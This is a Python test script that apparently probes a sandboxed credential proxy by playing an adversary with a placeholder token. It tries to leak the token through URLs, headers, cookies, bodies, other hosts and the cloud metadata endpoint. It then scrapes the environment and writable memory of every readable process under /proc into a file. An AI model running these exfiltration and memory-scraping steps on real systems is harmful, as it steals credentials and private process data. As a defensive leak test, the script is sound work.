"""Runs inside the sandbox: does with a placeholder whatever an adversary would. Answers go to files, a line of JSON for each try to the output.

    python3 attack.py https://localhost:PORT https://127.0.0.1:PORT FORM...
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

URL, OTHER, FORMS = sys.argv[1], sys.argv[2], sys.argv[3:]
TOKEN = os.environ["GITHUB_TOKEN"]
ANSWERS = Path("answers")
ANSWERS.mkdir(exist_ok=True)


def attempt(name: str, *arguments: str, url: str = URL, path: str = "/echo") -> None:
    """One request by curl; the answer's head and body are kept."""
    done = subprocess.run(
        ["curl", "--silent", "--show-error", "--noproxy", "", "--path-as-is", "--max-time", "20", "--dump-header", ANSWERS / f"{name}.head",
         "--output", ANSWERS / f"{name}.body", "--write-out", "%{http_code} %{http_connect}", *arguments, url + path],
        capture_output=True, text=True, timeout=30)
    code, connect = (done.stdout.split() + ["000", "000"])[:2]
    (ANSWERS / f"{name}.error").write_text(done.stderr)
    print(json.dumps({"name": name, "status": int(code), "connect": int(connect), "exit": done.returncode}), flush=True)


def escaped(text: str) -> str:
    return "".join(f"%{b:02x}" for b in text.encode())


BEARER = ("--header", f"Authorization: Bearer {TOKEN}")
PIN = os.environ["SERVICE_PIN"]

# What the policy grants.
attempt("granted-bearer", *BEARER)
attempt("granted-basic", "--user", f"robot:{PIN}", path="/basic/echo")
attempt("granted-json", "--header", f"Authorization: Basic {__import__('base64').b64encode(('robot:' + PIN).encode()).decode()}",
        "--json", json.dumps({"login": {"pin": PIN}}), path="/basic/login")
for form in FORMS:
    attempt(f"as-{form}", *BEARER, path=f"/as/{form}")
# A service that publishes what it is sent, credential and all, and what it published read again without the credential.
attempt("publish", *BEARER, "--data", "nothing secret", path="/publish")
attempt("published", path="/public/0")

# What it does not: each of these must be refused before the server sees anything.
attempt("url-path", *BEARER, path=f"/echo/{TOKEN}")
attempt("url-query", *BEARER, path=f"/echo?token={TOKEN}")
attempt("url-escaped", *BEARER, path=f"/echo?token={escaped(TOKEN)}")
attempt("other-header", *BEARER, "--header", f"X-Note: {TOKEN}")
attempt("other-scheme", "--header", f"Authorization: Token {TOKEN}")
attempt("header-name", *BEARER, "--header", f"X-{TOKEN}: 1")
attempt("twice", *BEARER, "--header", f"Authorization: Bearer {TOKEN}")
attempt("cookie", *BEARER, "--cookie", f"a={TOKEN}")
attempt("body", *BEARER, "--data", f"note={TOKEN}", path="/publish")
attempt("body-escaped", *BEARER, "--data", f"note={escaped(TOKEN)}", path="/publish")
attempt("body-chunked", *BEARER, "--header", "Transfer-Encoding: chunked", "--data", "x" * 40_000 + TOKEN, path="/publish")
attempt("body-long", *BEARER, "--data", "x" * 100_000 + TOKEN, path="/publish")
attempt("body-json-elsewhere", "--user", f"robot:{PIN}", "--json", json.dumps({"note": PIN}), path="/basic/login")
attempt("own-credential", "--header", "Authorization: Bearer somebody-elses-own-key")
attempt("no-credential")
attempt("other-host", *BEARER, url=OTHER)
attempt("other-host-fronted", *BEARER, "--header", f"Host: {URL.removeprefix('https://')}", url=OTHER)
attempt("unencrypted", *BEARER, url=URL.replace("https:", "http:"))
attempt("absent-host", *BEARER, url="https://absent.example")
attempt("metadata-service", url="http://169.254.169.254", path="/latest/meta-data/")

# Everything that this user may read of every process in here, kept where it can be searched from outside.
with open("memory.bin", "wb") as dump:
    read = 0
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        for name in ("environ", "cmdline"):
            try:
                dump.write((entry / name).read_bytes())
            except OSError:
                pass
        try:
            with open(entry / "mem", "rb", buffering=0) as memory:
                for line in (entry / "maps").read_text().splitlines():
                    start, end = (int(edge, 16) for edge in line.split()[0].split("-"))
                    if line.split()[1].startswith("rw") and end - start < 64 << 20:
                        try:
                            read += dump.write(os.pread(memory.fileno(), end - start, start))
                        except OSError:
                            pass
        except OSError:
            pass
Path("environment.txt").write_text("\n".join(f"{k}={v}" for k, v in os.environ.items()))
Path.home().joinpath("kept.txt").write_text(TOKEN)
Path("/tmp/kept.txt").write_text(TOKEN)
print(json.dumps({"name": "memory", "status": read}))
